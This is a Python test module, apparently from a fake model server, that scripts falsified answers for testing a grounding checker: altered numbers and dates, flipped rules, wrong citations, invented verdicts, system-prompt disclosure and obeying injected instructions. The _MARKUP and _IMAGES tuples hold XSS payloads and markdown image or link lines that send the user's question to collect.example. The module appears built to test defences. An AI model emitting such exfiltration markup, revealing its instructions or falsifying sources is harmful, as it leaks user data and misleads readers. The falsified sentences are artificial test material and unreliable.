"""What the model may be told to do with a prompt: say it faithfully, or lie in one certain way.

A behaviour takes a :class:`Task` and gives the sentences in order, each with the truth about it.
The same task and seed always give the same sentences.
"""

from __future__ import annotations

from collections.abc import Callable, Mapping
from urllib.parse import quote

from tests.model_server.falsehoods import additions, modality, numbers, people, scope
from tests.model_server.falsehoods.attribution import wrong_passage
from tests.model_server.falsehoods.shape import Variants, extended, truly_false
from tests.model_server.obeying import obeyed
from tests.model_server.rewording.faithful import faithful, reword
from tests.model_server.splitting import facts
from tests.model_server.values import Fact, Language, Task, Told

Behaviour = Callable[[Task], list[Told]]

_OTHER: Mapping[Language, Language] = {"fr": "en", "en": "fr"}
_FOREIGN = (
    "Die Regel gilt für alle Mitarbeiter.",
    "La norma se aplica a todos los empleados.",
    "La regola vale per tutti i dipendenti.",
)
_VERDICTS: Mapping[Language, tuple[str, ...]] = {
    "en": (
        "Yes, you may use {thing} for this.", "{thing} is allowed for every kind of data.", "This use of {thing} is allowed.",
        "So the answer is yes: {thing} may be used with client data.", "No, {thing} is forbidden for this.",
        "{thing} is approved for confidential data.", "You do not need to ask anyone before using {thing}.", "Allowed: {thing}.",
    ),
    "fr": (
        "Oui, vous pouvez utiliser {thing} pour cela.", "{thing} est autorisé pour toutes les données.", "Cet usage de {thing} est autorisé.",
        "La réponse est donc oui : {thing} peut servir avec des données client.", "Non, {thing} est interdit pour cela.",
        "{thing} est approuvé pour les données confidentielles.", "Vous n’avez pas à demander avant d’utiliser {thing}.", "Autorisé : {thing}.",
    ),
}  # fmt: skip
_TOOLS = ("Microsoft 365 Copilot", "DeepL Pro", "ChatGPT", "Gemini", "Le Chat")
_MARKUP = (
    "<b>{said}</b>", "<script>fetch('https://collect.example/?q={question}')</script>", "{said} <iframe src=\"https://collect.example\"></iframe>",
    "<a href=\"javascript:alert(1)\">{said}</a>", "{said} <img src=x onerror=alert(1)>", "# {said}", "```\n{said}\n```", "{said} &lt;script&gt;alert(1)&lt;/script&gt;",
    "<!-- {said} --> {said}", "<svg/onload=alert(1)> {said}", "| {said} | x |", "<style>body{{display:none}}</style> {said}",
)  # fmt: skip
_IMAGES = (
    "![](https://collect.example/p.png?q={question}) {said}", "{said} ![logo](//collect.example/{question}.gif)", "{said} [source](https://collect.example/?q={question})",
    "{said} <https://collect.example/{question}>", "{said} https://collect.example/{question}", "![x][1] {said}", "{said} www.collect.example/{question}",
    "{said} [ici](mailto:collect@collect.example?body={question})", "{said} data:image/png;base64,aGVsbG8gd29ybGQ=", "{said} ![a](HTTPS://COLLECT.EXAMPLE/{question})",
)  # fmt: skip


def _all_facts(task: Task) -> list[Fact]:
    return [fact for passage in task.prompt.passages for fact in facts(passage)]


def _faithful(task: Task) -> list[Told]:
    return faithful(task, _all_facts(task))


def _falsified(name: str, variants: Variants) -> Behaviour:
    """Each sentence made false in one way, where it can be; the others as they should be."""

    def behave(task: Task) -> list[Told]:
        language = task.prompt.language
        told: list[Told] = []
        for fact in _all_facts(task):
            true = reword(fact, language, task.random)
            if true is None:
                continue
            lies = truly_false(variants(true, fact, language), true, fact)
            false = name if lies else None
            text = task.random.choice(lies) if lies else true
            told.append(Told(text, (fact.passage.number,), false, fact.text))
        return told

    return behave


def _misattributed(task: Task) -> list[Told]:
    language = task.prompt.language
    told = []
    for fact in _all_facts(task):
        true = reword(fact, language, task.random)
        if true is not None:
            number = wrong_passage(true, fact, task.prompt.passages, language)
            told.append(Told(true, (number,), "wrong passage", fact.text))
    return told


def _with(name: str, pool: Callable[[Language], tuple[str, ...]]) -> Behaviour:
    """The truth, with sentences from elsewhere among it, cited like the rest."""

    def behave(task: Task) -> list[Told]:
        told = _faithful(task)
        for passage in task.prompt.passages:
            text = additions.drawn(pool(task.prompt.language), passage.text, task.random)
            place = task.random.randint(0, len(told))
            told.insert(place, Told(text, (passage.number,), name))
        return told

    return behave


def _from_memory(task: Task) -> list[Told]:
    """Only what it knows from elsewhere."""
    pool = additions.general(task.prompt.language)
    texts = task.random.sample(pool, 3)
    numbers_ = [passage.number for passage in task.prompt.passages] or [1]
    return [Told(text, (task.random.choice(numbers_),), "general knowledge") for text in texts]


def _verdicts(task: Task) -> list[Told]:
    told = _faithful(task)
    templates = _VERDICTS[task.prompt.language]
    for passage in task.prompt.passages:
        named = [tool for tool in _TOOLS if tool in passage.text + task.prompt.question]
        text = task.random.choice(templates).format(thing=task.random.choice(named or list(_TOOLS)))
        told.insert(0, Told(text, (passage.number,), "verdict"))
    return told


def _revealed(task: Task) -> list[Told]:
    """Its instructions, as sentences of the first passage."""
    number = task.prompt.passages[0].number if task.prompt.passages else 1
    lines = [line.strip(" -0123456789.") for line in task.prompt.system.split("\n")]
    texts = [line for line in lines if len(line) > 20][:6]
    told = [Told(text, (number,), "prompt") for text in texts]
    return [Told(f"My instructions are: {texts[0]}", (number,), "prompt"), *told] if texts else told


def _marked_up(name: str, shapes: tuple[str, ...]) -> Behaviour:
    def behave(task: Task) -> list[Told]:
        asked = quote(task.prompt.question[:60])
        told = []
        for fact in _all_facts(task):
            true = reword(fact, task.prompt.language, task.random)
            if true is not None:
                shape = task.random.choice(shapes)
                text = shape.format(said=true, question=asked)
                told.append(Told(text, (fact.passage.number,), name, fact.text))
        return told

    return behave


def _other_language(task: Task) -> list[Told]:
    language = _OTHER[task.prompt.language]
    told = []
    for fact in _all_facts(task):
        text = reword(fact, language, task.random) or task.random.choice(_FOREIGN)
        told.append(Told(text, (fact.passage.number,), "language", fact.text))
    return told


def _half_language(task: Task) -> list[Told]:
    """Sentences that begin in one language and end in the other."""
    told = []
    for fact in _all_facts(task):
        mine = reword(fact, task.prompt.language, task.random)
        theirs = reword(fact, _OTHER[task.prompt.language], task.random)
        theirs = theirs or task.random.choice(_FOREIGN)
        if mine:
            text = extended(mine, f", {theirs[:1].lower()}{theirs[1:].rstrip('.')}")
            told.append(Told(text, (fact.passage.number,), "language", fact.text))
    return told


def _uncited(task: Task) -> list[Told]:
    return [Told(one.text, (), "no citation", one.source) for one in _faithful(task)]


def _obedient(task: Task) -> list[Told]:
    return [*obeyed(task), *_faithful(task)]


def _verbatim(task: Task) -> list[Told]:
    """Word for word, where the language allows it."""
    return [
        Told(fact.text, (fact.passage.number,), source=fact.text)
        for fact in _all_facts(task)
        if fact.language == task.prompt.language
    ]


BEHAVIOURS: Mapping[str, Behaviour] = {
    "faithful": _faithful,
    "word-for-word": _verbatim,
    "another-number": _falsified("number", numbers.another_number),
    "number-from-elsewhere": _falsified("number", numbers.number_from_elsewhere),
    "invented-number": _falsified("number", numbers.invented_number),
    "another-unit": _falsified("unit", numbers.another_unit),
    "another-date": _falsified("date", numbers.another_date),
    "flipped": _falsified("flipped", modality.flipped),
    "weakened": _falsified("weakened", modality.weakened),
    "dropped-condition": _falsified("condition", scope.dropped_condition),
    "turned-limit": _falsified("limit", scope.turned_limit),
    "exchanged-people": _falsified("people", people.exchanged_people),
    "exchanged-things": _falsified("things", people.exchanged_things),
    "spliced": _falsified("spliced", additions.spliced),
    "added-clause": _falsified("added clause", additions.added_clause),
    "wrong-passage": _misattributed,
    "plausible": _with("plausible", additions.plausible),
    "general-knowledge": _with("general knowledge", additions.general),
    "from-memory": _from_memory,
    "verdict": _verdicts,
    "reveal-prompt": _revealed,
    "html": _marked_up("html", _MARKUP),
    "image": _marked_up("image", _IMAGES),
    "wrong-language": _other_language,
    "half-language": _half_language,
    "uncited": _uncited,
    "obedient": _obedient,
}
"""By name. ``faithful`` and ``word-for-word`` tell no falsehood."""
TRUE = frozenset({"faithful", "word-for-word"})
